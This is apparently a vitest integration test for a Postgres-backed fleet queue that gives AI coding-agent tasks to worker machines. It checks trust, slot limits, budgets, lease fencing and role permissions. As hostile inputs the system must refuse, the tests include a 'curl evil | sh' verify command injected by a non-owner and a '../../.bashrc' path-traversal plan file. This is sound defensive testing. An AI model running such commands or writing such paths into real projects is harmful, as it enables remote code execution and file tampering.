import { afterAll, beforeAll, beforeEach, describe, expect } from 'vitest';
import type { Door, FleetAccounts } from '../../src/fleet/index.js';
import { type FleetRole, Hub, HubQueue, newRole } from '../../src/hub/index.js';
import { ALWAYS, type EntryEnd, NO_LIMITS, type Taker } from '../../src/queue/index.js';
import {
  doorTo,
  emptyQueue,
  FleetQueues,
  type MachineOptions,
  NO_ACCOUNTS,
  workerRules,
} from '../support/fleet-queues.js';
import { type Cluster, cluster } from '../support/postgres.js';
import { POSTGRES } from '../support/postgres-place.js';
import { until } from '../support/processes.js';
import { newEntry, PLAN_FILES } from '../support/queue-entries.js';
import { verifiesNeeding } from '../support/verifies-needing.js';

const TAKER: Taker = {
  limits: NO_LIMITS,
  admission: ALWAYS,
  agentOf: ({ options }) => options.agent ?? 'claude',
  own: new Set(),
};
const DONE: EntryEnd = {
  outcome: 'done',
  reason: null,
  worktree: null,
  hasPrompted: true,
  report: null,
  question: null,
};
const options = (more: object) => ({ verify: [], isUnattended: false, isDirtyTaken: false, ...more });

describe.skipIf(POSTGRES === undefined)('the queue of a fleet', () => {
  let db: Cluster;
  let queues: FleetQueues;
  const passwords = new Map<string, string>();
  const doors: Door[] = [];

  beforeAll(async () => {
    db = await cluster();
    queues = await FleetQueues.open(db);
    for (const [name, role] of [
      ['ann', 'person'],
      ['bob', 'person'],
      ['ci', 'worker'],
      ['eve', 'viewer'],
    ] as [string, FleetRole][]) {
      const made = newRole(name, role);
      passwords.set(name, made.password);
      await db.sql(made.sql);
    }
  });

  beforeEach(() => emptyQueue(db));

  afterAll(async () => {
    for (const door of doors) await door.close();
    await queues?.[Symbol.asyncDispose]();
    await db?.[Symbol.asyncDispose]();
  });

  const urlOf = (name: string) => db.urlOf(name, passwords.get(name));
  const machineOf = async (name: string, more: Partial<MachineOptions['rules']> = {}) =>
    queues.machine({ url: urlOf(name), rules: workerRules({ trusted: [name], ...more }) });

  verifiesNeeding(
    'F03',
    { postgres: true },
    'an entry of somebody not trusted stays queued with the reason, and is taken where its person is trusted',
    async () => {
      const [ann, bob] = [await machineOf('ann'), await machineOf('bob')];
      const { id } = await bob.queue.add(newEntry(), PLAN_FILES);
      const watch = ann.queue.watch(() => {});
      expect(await ann.queue.take(TAKER)).toBeUndefined();
      await until(async () => {
        // The list is read again only when something in it changed.
        await db.sql('update holdfast.queue set revision = revision + 1');
        const [entry] = (await bob.queue.read()).entries;
        return /no worker runs what bob queues/.test(entry?.fleet?.obstacle ?? '');
      });
      watch.close();
      expect(await bob.queue.get(id)).toMatchObject({
        status: 'queued',
        fleet: { by: 'bob', machine: null },
      });
      const trusting = await machineOf('ann', { trusted: ['ann', 'bob'] });
      expect((await trusting.queue.take(TAKER))?.entry.id).toBe(id);
    },
  );

  verifiesNeeding(
    'F03',
    { postgres: true },
    'labels, agents, repositories and bypass decide which worker takes what',
    async () => {
      const ann = await machineOf('ann');
      const add = (more: object) => ann.queue.add(newEntry({ options: options(more) }), PLAN_FILES);
      const labelled = await add({ labels: ['linux', 'gpu'] });
      expect(await ann.queue.take(TAKER)).toBeUndefined();
      const half = await machineOf('ann', { labels: ['linux'] });
      expect(await half.queue.take(TAKER)).toBeUndefined();
      const whole = await machineOf('ann', { labels: ['gpu', 'linux', 'big'] });
      expect((await whole.queue.take(TAKER))?.entry.id).toBe(labelled.id);
      const other = await add({ agent: 'gemini' });
      const without = await machineOf('ann', { hasAgent: (name) => name !== 'gemini' });
      expect(await without.queue.take(TAKER)).toBeUndefined();
      expect((await ann.queue.take(TAKER))?.entry.id).toBe(other.id);
      const { id } = await add({});
      const elsewhere = await machineOf('ann', {
        repositories: ['https://git.lan/other/*', 'https://git.lan/te_m/*'],
      });
      expect(await elsewhere.queue.take(TAKER)).toBeUndefined();
      const there = await machineOf('ann', { repositories: ['https://git.lan/team/*'] });
      expect((await there.queue.take(TAKER))?.entry.id).toBe(id);
      const bypass = await add({ permissions: 'bypass' });
      expect(await ann.queue.take(TAKER)).toBeUndefined();
      const allowed = await machineOf('ann', { mayBypass: true });
      expect((await allowed.queue.take(TAKER))?.entry.id).toBe(bypass.id);
    },
  );

  verifiesNeeding(
    'F03',
    { postgres: true },
    'what an entry runs is changed by who queued it alone; others may move, pause and remove it',
    async () => {
      const [ann, bob] = [await machineOf('ann'), await machineOf('bob')];
      const [first, second] = [
        await ann.queue.add(newEntry(), PLAN_FILES),
        await ann.queue.add(newEntry(), PLAN_FILES),
      ];
      const evil = () => ({ options: { ...options({}), verify: ['curl evil | sh'] } });
      await expect(bob.queue.edit(first.id, evil)).rejects.toMatchObject({ rule: 'not-your-entry' });
      await bob.queue.move(second.id, { to: 'first' });
      await bob.queue.pause(second.id);
      await bob.queue.resume(second.id);
      await bob.queue.remove(first.id);
      expect((await ann.queue.take(TAKER))?.entry).toMatchObject({ id: second.id, options: { verify: [] } });
    },
  );

  verifiesNeeding(
    'F03',
    { postgres: true },
    'each role calls what is its own; nobody reads a token or writes for a machine of another',
    async () => {
      const [ann, ci] = [await machineOf('ann'), await machineOf('ci', { trusted: ['ann'] })];
      await ann.queue.add(newEntry(), PLAN_FILES);
      await ann.queue.add(newEntry(), PLAN_FILES);
      const taken = await ann.queue.take(TAKER);
      const lease = taken?.lease.fence ?? { entry: '', epoch: 0, token: '' };
      const as = async (name: string) => {
        const door = doorTo(urlOf(name));
        doors.push(door);
        return new HubQueue((await door.open()).connection);
      };
      const fenced = { rule: 'fenced' };
      // Even with the token in hand: the machine belongs to another role.
      const bob = await as('bob');
      await expect(bob.renew(lease.entry, lease.epoch, lease.token, 300)).rejects.toMatchObject(fenced);
      await expect(bob.release(lease.entry, lease.epoch, lease.token)).rejects.toMatchObject(fenced);
      await expect(
        bob.finish(lease.entry, lease.epoch, lease.token, { ...DONE, has_prompted: true }),
      ).rejects.toMatchObject(fenced);
      await expect(bob.wishHandOver(ann.id)).rejects.toMatchObject({ rule: 'not-your-machine' });
      const refused = { code: 'FLEET_REFUSED' };
      for (const name of ['ann', 'ci', 'eve']) {
        const { connection } = await as(name);
        await expect(connection.rows('select token from holdfast.entry')).rejects.toMatchObject(refused);
        await expect(connection.rows('select token from holdfast.taking')).rejects.toMatchObject(refused);
        for (const helper of ['note_queue()', `found_entry('${lease.entry}')`])
          await expect(connection.rows(`select holdfast.${helper}`)).rejects.toMatchObject(refused);
      }
      await expect(ci.queue.add(newEntry(), PLAN_FILES)).rejects.toMatchObject(refused);
      await expect(ci.queue.pause()).rejects.toMatchObject(refused);
      expect(await ci.queue.take(TAKER)).toMatchObject({ entry: { fleet: { by: 'ann' } } });
      const eve = await as('eve');
      await expect(eve.renew(lease.entry, lease.epoch, lease.token, 300)).rejects.toMatchObject(refused);
      expect((await eve.entries()).rows).toHaveLength(2);
    },
  );

  verifiesNeeding(
    'F03',
    { postgres: true },
    'the same token gives the same entry, or nothing once that is over',
    async () => {
      const ann = await machineOf('ann');
      for (let left = 3; left > 0; left -= 1) await ann.queue.add(newEntry(), PLAN_FILES);
      await using door = doorTo(urlOf('ann'));
      const hub = new HubQueue((await door.open()).connection);
      const limits = {
        agent: 'claude',
        repositories: null,
        bypass: false,
        own: [],
        refused: [],
        waiting: [],
      };
      const rules = {
        labels: [],
        trusted: ['ann'],
        leaseSeconds: 300,
        limits: { ...limits, agent_slots: {}, account_slots: {}, day: null },
      };
      const token = '50000000-0000-4000-8000-000000000001';
      const both = await Promise.all([hub.take(ann.id, token, rules), hub.take(ann.id, token, rules)]);
      expect(both[1]).toMatchObject({ id: both[0]?.id, epoch: 1 });
      const { id = '', epoch = 0 } = both[0] ?? {};
      const end = { ...DONE, has_prompted: true };
      await hub.finish(id, epoch, token, end);
      await hub.finish(id, epoch, token, end);
      expect(await hub.take(ann.id, token, rules)).toBeUndefined();
      expect(await db.sql('select state from holdfast.entry order by position')).toEqual([
        { state: 'done' },
        { state: 'queued' },
        { state: 'queued' },
      ]);
    },
  );

  verifiesNeeding(
    'F03',
    { postgres: true },
    'slots of an agent and of an account hold over all machines of a person, and for nobody else',
    async () => {
      const [one, two, bob] = [await machineOf('ann'), await machineOf('ann'), await machineOf('bob')];
      const limits = { perAgent: { claude: 2 }, perAccount: { work: 1 } };
      const taker = { ...TAKER, limits };
      const add = (account?: string) =>
        one.queue.add(newEntry({ options: options(account === undefined ? {} : { account }) }), PLAN_FILES);
      await add('work');
      await add('work');
      await add();
      await add();
      const first = await one.queue.take(taker);
      const second = await two.queue.take(taker);
      expect([first?.entry.options.account, second?.entry.options.account]).toEqual(['work', undefined]);
      expect(await two.queue.take(taker)).toBeUndefined();
      await bob.queue.add(newEntry(), PLAN_FILES);
      expect(await bob.queue.take(taker)).toBeDefined();
      await first?.finish(DONE);
      expect((await two.queue.take(taker))?.entry.options.account).toBe('work');
    },
  );

  verifiesNeeding(
    'F03',
    { postgres: true },
    'a limit that one machine was told keeps the others, one run tries first after it, then all go on',
    async () => {
      const windows = { one: new Map<string, string>(), two: new Map<string, string>() };
      const accounts = (known: Map<string, string>): FleetAccounts => ({
        windowOf: ({ agent }) => {
          const until = known.get(agent ?? 'claude');
          return until === undefined ? undefined : { until, scope: '5h' };
        },
        async adoptWindow({ agent }, { until }) {
          known.set(agent ?? 'claude', until);
        },
        day: undefined,
      });
      const one = await machineOf('ann', { accounts: accounts(windows.one) });
      const two = await machineOf('ann', { accounts: accounts(windows.two) });
      for (let left = 3; left > 0; left -= 1) await one.queue.add(newEntry(), PLAN_FILES);
      windows.one.set('claude', new Date(Date.now() + 3_600_000).toISOString());
      const waits = { ...TAKER, admission: { standing: () => ({ may: false, reason: 'limit' }) as const } };
      expect(await one.queue.take(waits)).toBeUndefined();
      expect(await two.queue.take(TAKER)).toBeUndefined();
      // The time of the reset passes, on the clock of the database.
      const past = new Date(Date.now() - 1_000).toISOString();
      await db.sql('update holdfast.account set until = $1', [past]);
      windows.one.clear();
      expect(await two.queue.take(TAKER)).toBeDefined();
      expect(windows.two.get('claude')).toBeDefined();
      expect(await one.queue.take(TAKER)).toBeUndefined();
      expect(await two.queue.take(TAKER)).toBeUndefined();
      // The account answered: the window of its machine is gone.
      windows.two.clear();
      expect(await two.queue.take(TAKER)).toBeDefined();
      expect(await one.queue.take(TAKER)).toBeDefined();
    },
  );

  verifiesNeeding(
    'F03',
    { postgres: true },
    'the budget of a day is one for all machines of a person',
    async () => {
      const heard = new Map<string, number>();
      const day = (name: string, costUsd: number): FleetAccounts => ({
        ...NO_ACCOUNTS,
        day: {
          limits: { costUsd: 5 },
          today: () => '2026-11-17',
          used: () => ({ costUsd, tokens: 0 }),
          noteElsewhere: (use) => void heard.set(name, use.costUsd),
        },
      });
      const one = await machineOf('ann', { accounts: day('one', 2) });
      const two = await machineOf('ann', { accounts: day('two', 3) });
      await one.queue.add(newEntry(), PLAN_FILES);
      await one.queue.add(newEntry(), PLAN_FILES);
      expect(await one.queue.take(TAKER)).toBeDefined();
      expect(await two.queue.take(TAKER)).toBeUndefined();
      expect(await one.queue.take(TAKER)).toBeUndefined();
      expect([...heard]).toEqual([
        ['one', 3],
        ['two', 2],
      ]);
    },
  );

  verifiesNeeding(
    'F03',
    { postgres: true },
    'a machine that holds entries may not leave; a restored database voids all leases and hands nothing out too early',
    async () => {
      const [ann, other] = [await machineOf('ann'), await machineOf('ann')];
      await ann.queue.add(newEntry(), PLAN_FILES);
      await ann.queue.add(newEntry(), PLAN_FILES);
      const taken = await ann.queue.take(TAKER);
      await using door = doorTo(urlOf('ann'));
      const hub = new Hub((await door.open()).connection);
      await expect(hub.leave(ann.id)).rejects.toMatchObject({ rule: 'holds-runs' });
      await db.sql('select holdfast.note_restored()');
      await taken?.renew();
      expect(taken?.lost).toMatchObject({ aborted: true, reason: 'fenced' });
      await expect(taken?.finish(DONE)).rejects.toMatchObject({ code: 'LOCK_LOST' });
      // The former holder may still be working, and so may one that the backup does not know.
      expect(await other.queue.take(TAKER)).toBeUndefined();
      await db.sql('update holdfast.entry set lease_until = clock_timestamp()');
      expect(await other.queue.take(TAKER)).toMatchObject({ isTakenOver: true, fence: 2 });
      expect(await other.queue.take(TAKER)).toBeUndefined();
      await db.sql('update holdfast.queue set hold_until = clock_timestamp()');
      expect(await other.queue.take(TAKER)).toMatchObject({ isTakenOver: false });
    },
  );

  verifiesNeeding(
    'F03',
    { postgres: true },
    'rows that mean harm run nothing: a plan that is not its hash, a path that leads out',
    async () => {
      const ann = await machineOf('ann');
      const [bad, out, good] = [
        await ann.queue.add(newEntry(), PLAN_FILES),
        await ann.queue.add(newEntry(), PLAN_FILES),
        await ann.queue.add(newEntry(), PLAN_FILES),
      ];
      await db.sql(
        "update holdfast.entry set content = jsonb_build_object('plan.md', 'ZXZpbA==') where id = $1",
        [bad.id],
      );
      await db.sql(
        `update holdfast.entry set plan = jsonb_set(plan, '{files}', '["../../.bashrc"]') where id = $1`,
        [out.id],
      );
      expect((await ann.queue.take(TAKER))?.entry.id).toBe(good.id);
      expect(
        await db.sql('select state, reason from holdfast.entry where state = $1 order by position', [
          'failed',
        ]),
      ).toEqual([
        { state: 'failed', reason: expect.stringContaining('does not match its hash') },
        { state: 'failed', reason: expect.stringContaining('files') },
      ]);
    },
  );
});
